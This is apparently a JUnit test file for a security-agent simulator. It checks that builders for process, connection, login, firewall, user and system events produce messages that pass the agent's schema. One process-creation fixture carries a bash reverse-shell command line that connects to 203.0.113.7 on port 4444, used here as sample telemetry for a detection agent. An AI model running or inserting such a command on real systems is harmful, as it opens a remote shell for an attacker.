package io.vigil.simulator.agent;

import io.vigil.simulator.agent.FirewallConfiguration.Action;
import io.vigil.simulator.agent.FirewallConfiguration.Rule;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.time.Instant;
import java.util.UUID;
import java.util.function.Supplier;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/** Every event builder, in its plain and its fullest form, yields a message the agent's schema accepts. */
class EventBuildersSchemaTest {

    private static final String AGENT_ID = "5b1f8a4e-2c4d-4f7a-9a1e-0d3c2b1a0f9e";

    static Stream<Arguments> events() {
        return Stream.of(
                event("ProcessCreate, defaults", () -> Events.processCreate("/usr/bin/id", "id")),
                event("ProcessCreate, full", () -> Events.processCreate("/bin/bash",
                                "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")
                        .processId(4242).parentProcessId(4100).user("1000", "pi").extra("Hash", "ab12")),
                event("ProcessCreate, no user name", () -> Events.processCreate("/bin/ls", "ls").user("0", null)),
                event("ProcessTerminate", () -> Events.processTerminate("/usr/bin/id", 4242, 0)),
                event("ConnectionCreate, outbound", () -> Events.outboundConnection("/usr/bin/curl", "198.51.100.4", 443)),
                event("ConnectionCreate, inbound full", () -> Events.inboundConnection("/usr/sbin/sshd", "10.20.0.50", 52811)
                        .local("10.20.3.7", 22).processId(587).userId("0").commandLine("sshd: pi [priv]")
                        .protocol("tcp").extra("familyName", "AF_INET")),
                event("ConnectionCreate, IPv6 udp", () -> Events.outboundConnection("/usr/sbin/chronyd", "2001:db8::1", 123)
                        .protocol("udp")),
                event("Login, failed ssh", () -> Events.loginFailure("/usr/sbin/sshd", "admin")
                        .processId(5001).remote("203.0.113.9", 51234).localPort(22)),
                event("Login, local by user id", () -> Events.login(Login.Result.SUCCESS, "/bin/login").userId("0")),
                event("ListeningPorts", () -> Events.listeningPorts()
                        .listening("tcp", "0.0.0.0", 23)
                        .listening("tcp6", "::", 22)
                        .add(ListeningPorts.Endpoint.of("udp", "127.0.0.53", 53).extra("Pid", "402"))),
                event("ListeningPorts, empty", Events::listeningPorts),
                event("FirewallConfiguration", () -> Events.firewallConfiguration()
                        .rule(Rule.allow().chain("INPUT").priority(0).sourceAddress("10.20.0.0/16").protocol("tcp")
                                .destinationPort(22).extra("m", "tcp"))
                        .rule(Rule.policy("INPUT", Action.DENY, 1))
                        .rule(Rule.of(Action.OTHER).chain("FORWARD").priority(0).application("*").enabled(false)
                                .sourcePort("1000:2000").destinationAddress("Local subnet").extra("Action", "LOG"))),
                event("LocalUsers", () -> Events.localUsers()
                        .add(LocalUsers.User.of("0", "root").group("0", "root"))
                        .add(LocalUsers.User.of("1000", "pi").group("1000", "pi").group("27", "sudo"))
                        .add(LocalUsers.User.of("65534", "nobody"))),
                event("SystemInformation", () -> Events.systemInformation()
                        .os("Raspbian GNU/Linux", "11 (bullseye)", "Raspberry Pi Foundation", "armv7l")
                        .hostName("pi-7").firmware("1.4", "/dev/mmcblk0p2")
                        .physicalMemoryKb(948_304, 512_000).virtualMemoryKb(1_050_700, 600_000)
                        .extra("Kernel", "6.1.21-v7+")),
                event("SystemInformation, empty item", Events::systemInformation),
                event("OSBaseline", () -> Events.osBaseline()
                        .add(OSBaseline.Check.pass("CCE-4325-7", "sshd protocol 2", OSBaseline.Severity.CRITICAL))
                        .add(OSBaseline.Check.fail("CCE-4365-3", "avahi disabled", OSBaseline.Severity.WARNING,
                                "Service 'avahi-daemon' is not disabled"))
                        .add(OSBaseline.Check.error("CCE-4030-3", "sshd rhosts", OSBaseline.Severity.IMPORTANT,
                                "open /etc/ssh/sshd_config: no such file or directory"))),
                event("ConnectedHardware", () -> Events.connectedHardware()
                        .device("Input", "Keyboard", "USB Keyboard")
                        .add(ConnectedHardware.Device.of("Network", "Adapter", "eth0").extra("Vendor", "SMSC"))),
                event("Diagnostic", () -> Events.diagnostic(Diagnostic.Severity.WARNING, "queue almost full")
                        .processId(300).threadId(301).correlationId(UUID.randomUUID())),
                event("ConfigurationError", () -> Events.configurationError("highPriorityMessageFrequency",
                        ConfigurationError.ErrorType.TYPE_MISMATCH, "PT7M", "expected an ISO 8601 duration")),
                event("DroppedEventsStatistics", () -> Events.droppedEventsStatistics()
                        .queue(DroppedEventsStatistics.Queue.HIGH, 120, 0)
                        .queue(DroppedEventsStatistics.Queue.LOW, 4_500, 12)),
                event("MessageStatistics", () -> Events.messageStatistics(310, 12, 1)));
    }

    private static Arguments event(String label, Supplier<AgentEvent<?>> event) {
        return Arguments.of(label, event);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("events")
    void eventIsValidAlone(String label, Supplier<AgentEvent<?>> event) {
        AgentSchemaValidator.assertValid(AgentMessage.from(AGENT_ID).event(event.get()).toJson());
    }

    @Test
    void allEventsTogetherWithLocalTimeAreValid() {
        AgentMessage message = AgentMessage.from(AGENT_ID).localOffset(java.time.ZoneOffset.ofHoursMinutes(5, 30));
        events().forEach(arguments -> {
            @SuppressWarnings("unchecked")
            Supplier<AgentEvent<?>> event = (Supplier<AgentEvent<?>>) arguments.get()[1];
            message.event(event.get());
        });
        AgentSchemaValidator.assertValid(message.toJson());
        assertThat(message.eventCount()).isEqualTo((int) events().count());
    }

    @Test
    void heartbeatIsOutsideThePublishedSchema() {
        // Kept for lenient-backend tests: the schema's event-type oneOf has no Heartbeat.
        byte[] json = AgentMessage.from(AGENT_ID).event(Events.heartbeat()).toJson();
        assertThat(AgentSchemaValidator.violations(json)).isNotEmpty();
    }

    @Test
    void aggregatedEventsAreOutsideThePublishedSchema() {
        Instant first = Instant.parse("2026-11-24T10:00:00Z");
        byte[] json = AgentMessage.from(AGENT_ID)
                .event(Events.processCreate("/usr/bin/id", "id").processId(5).aggregated(7, first,
                        first.plusSeconds(3600)))
                .toJson();
        assertThat(AgentSchemaValidator.violations(json)).isNotEmpty();
    }
}
